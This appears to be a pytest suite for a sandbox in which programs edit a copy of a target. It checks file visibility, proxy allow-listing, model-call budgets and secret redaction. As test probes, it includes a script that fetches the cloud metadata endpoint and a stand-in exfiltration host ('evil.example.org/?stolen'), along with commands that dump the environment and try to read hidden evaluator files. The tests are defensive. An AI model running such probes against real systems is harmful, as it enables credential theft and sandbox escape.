"""A program edits a copy of a target: what it is given, what it can reach, what counts, and what is kept of it."""

from __future__ import annotations

import hashlib
import json
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from improvement.agents.endpoint import Reachable
from improvement.agents.workshop import Workshop
from improvement.broker.configuration import ModelConfig
from improvement.engine.errands import Command, Done
from improvement.engine.manifest import parse_manifest
from improvement.engine.measurement import Task
from improvement.engine.model_calls import ModelAnswer, ModelRequest
from improvement.exceptions import Halted, Invalid
from improvement.hosts import HostList
from improvement.sandbox import levels, running, spawn
from tests.model_server import KEY, ModelServer
from tests.waiting import wait_until

MANIFEST = """
[target]
name = "small"
[edit]
files = ["f.py", "parts/*.py"]
[evaluate]
module = "evaluator.py"
visible = ["shown.txt"]
[metrics.score]
better = "higher"
[holdout]
module = "holdout.py"
"""
HIDDEN = "the expected answer is 42"
TREE = {
    "countersign.toml": MANIFEST.encode(),
    "f.py": b"def number():\n    return 1\n",
    "shown.txt": b"given to all",
    "evaluator.py": HIDDEN.encode(),
    "holdout.py": HIDDEN.encode(),
    "fixtures/cases.json": HIDDEN.encode(),
}
TASK = Task(parse_manifest(MANIFEST, where="test"), TREE)


class Kept(dict[str, str]):
    """Transcripts by digest."""

    def keep(self, content: bytes) -> str:
        digest = hashlib.sha256(content).hexdigest()
        self[digest] = content.decode()
        return digest


class Book:
    """A ledger with room for so many requests."""

    def __init__(self, room: int) -> None:
        self.room, self.answers, self.lock = room, list[ModelAnswer](), threading.Lock()

    def reserve(self, request: ModelRequest, config: ModelConfig) -> int:
        with self.lock:
            if not self.room:
                raise Invalid("The budget of this run is spent.")
            self.room -= 1
            return self.room

    def settle(self, number: int, answer: ModelAnswer, seconds: float) -> None:
        self.answers.append(answer)


@pytest.fixture
def kept() -> Kept:
    levels.require(spawn.FULL)
    return Kept()


def done(workshop: Workshop, *argv: str, seconds: int = 20) -> Done:
    return workshop.do(Command(argv, {"f.py": TREE["f.py"].decode()}, "# Make it 2\n", seconds))


def python(workshop: Workshop, program: str) -> Done:
    return done(workshop, "python3", "-c", program)


def test_an_edit_of_an_editable_file_counts_and_the_transcript_is_kept(kept: Kept) -> None:
    made = done(
        Workshop(TASK, kept.keep), "sh", "-c", "sed -i s/1/2/ f.py; mkdir parts; echo x=1 > parts/a.py; echo ok"
    )
    assert (made.how, made.status, made.left_out) == ("exit", 0, ())
    assert made.files == {"f.py": "def number():\n    return 2\n", "parts/a.py": "x=1\n"}
    assert made.log == "ok\n"
    transcript = kept[made.transcript]
    for part in ("$ sh -c sed", "ended: exit 0", "changed: f.py, parts/a.py", "# Make it 2", "--- what it printed\nok"):
        assert part in transcript


def test_what_lies_beside_is_left_out_and_named_and_a_change_of_what_was_given_counts(kept: Kept) -> None:
    made = done(
        Workshop(TASK, kept.keep), "sh", "-c", "echo no > shown.txt; echo h > .history; echo x > evaluator.py; rm f.py"
    )
    assert made.files == {"shown.txt": "no\n"}
    assert made.left_out == (".history", "evaluator.py", "f.py (removed)")


def test_it_sees_neither_evaluator_nor_holdout_nor_fixtures(kept: Kept) -> None:
    made = done(
        Workshop(TASK, kept.keep), "sh", "-c", "find . -not -path './.git*' -type f; git log -p; cat /job/* ../*/*"
    )
    assert sorted(line for line in made.log.splitlines() if line.startswith("./")) == [
        "./TASK.md",
        "./f.py",
        "./shown.txt",
    ]
    assert HIDDEN not in kept[made.transcript]


PROXIED = """
import urllib.request, urllib.error, os
for address in ["http://169.254.169.254/latest/meta-data/", "http://localhost/", "https://evil.example.org/?stolen",
                "http://granted.example.org/"]:
    try:
        print(urllib.request.urlopen(address, timeout=5).read())
    except (urllib.error.URLError, OSError) as error:
        print(address, getattr(error, "code", error))
"""


def test_the_proxy_refuses_what_is_not_granted_and_says_so_in_the_transcript(kept: Kept) -> None:
    made = python(Workshop(TASK, kept.keep, hosts=HostList.parse(["granted.invalid"])), PROXIED)
    text = kept[made.transcript]
    assert "169.254.169.254/latest/meta-data/ 400" in made.log
    assert "proxy: CONNECT evil.example.org:443 refused: evil.example.org:443 is not on the list" in text
    assert "proxy: GET granted.example.org:80 refused" in text


ASK = """
import json, os, urllib.request
def ask():
    body = json.dumps({"model": "x", "messages": [{"role": "user", "content": "make it better"}]}).encode()
    request = urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions", body, {
        "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"})
    try:
        return json.load(urllib.request.urlopen(request))["choices"][0]["message"]["content"]
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode()}"
"""


@pytest.fixture
def asking(kept: Kept, tmp_path: Path) -> Iterator[tuple[Workshop, ModelServer, Book]]:
    with ModelServer(lambda prompt: "return 2") as server:
        book = Book(room=1)
        models = [Reachable(server.config(), KEY, tmp_path / "pace")]
        yield Workshop(TASK, kept.keep, models=models, ledger=book, known_secrets=("hush-hush-1234",)), server, book


def test_a_model_is_asked_with_the_dummy_key_and_within_the_budget(
    asking: tuple[Workshop, ModelServer, Book], kept: Kept
) -> None:
    workshop, server, book = asking
    made = python(workshop, ASK + "open('f.py', 'w').write(ask())\nprint(ask())")
    assert made.files == {"f.py": "return 2"}
    assert "403" in made.log
    assert "The budget of this run is spent." in made.log
    assert [(one.tokens_in, one.tokens_out) for one in book.answers] == [(3, 2)]
    assert server.asked[0].headers["Authorization"] == f"Bearer {KEY}"
    assert "model: x answered by local: 3 tokens in, 2 out" in kept[made.transcript]


def test_no_secret_is_inside_or_in_the_transcript(asking: tuple[Workshop, ModelServer, Book], kept: Kept) -> None:
    workshop, _, _ = asking
    made = python(workshop, "import os; print(dict(os.environ)); print('hush-hush-' + '1234', 'sk-' + 'a1' * 20)")
    assert KEY not in kept[made.transcript]
    assert "hush-hush-1234" not in made.log
    assert "a1a1a1" not in kept[made.transcript]
    assert "OPENAI_API_KEY" in made.log


def test_terminal_sequences_are_taken_out_of_the_transcript(kept: Kept) -> None:
    made = python(Workshop(TASK, kept.keep), "print('\\x1b[2J\\x1b]0;title\\x07red\\x1b[31m\\u202etxt')")
    assert made.log == "red<U+202E>txt\n"


def test_the_stop_in_the_middle_ends_it(kept: Kept, asking: tuple[Workshop, ModelServer, Book]) -> None:
    workshop, _, _ = asking
    halted = threading.Event()

    def halt() -> None:
        wait_until(lambda: running.shared().count == 1, seconds=10, what="the program runs")
        halted.set()

    threading.Thread(target=halt).start()
    command = Command(("sh", "-c", "sleep 60"), {"f.py": ""}, "", 60)
    with pytest.raises(Halted):
        workshop.do(command, halted.is_set)
    assert running.shared().count == 0


def test_a_script_of_the_host_is_a_program_where_the_setting_names_it(kept: Kept) -> None:
    with tempfile.TemporaryDirectory(dir="/var/tmp") as folder:
        Path(folder).chmod(0o755)
        script = Path(folder) / "better"
        script.write_text("#!/usr/bin/env python3\nopen('f.py', 'w').write('x = 1\\n')\n")
        script.chmod(0o755)
        assert done(replace(Workshop(TASK, kept.keep), programs=(folder,)), "better").files == {"f.py": "x = 1\n"}
        assert done(Workshop(TASK, kept.keep), "better").how == "not_started"


def test_what_came_of_it_can_be_read_back(kept: Kept) -> None:
    made = done(Workshop(TASK, kept.keep), "sh", "-c", "echo x > f.py; echo y > g.py")
    assert Done.from_json(json.loads(json.dumps(made.as_json()))) == made
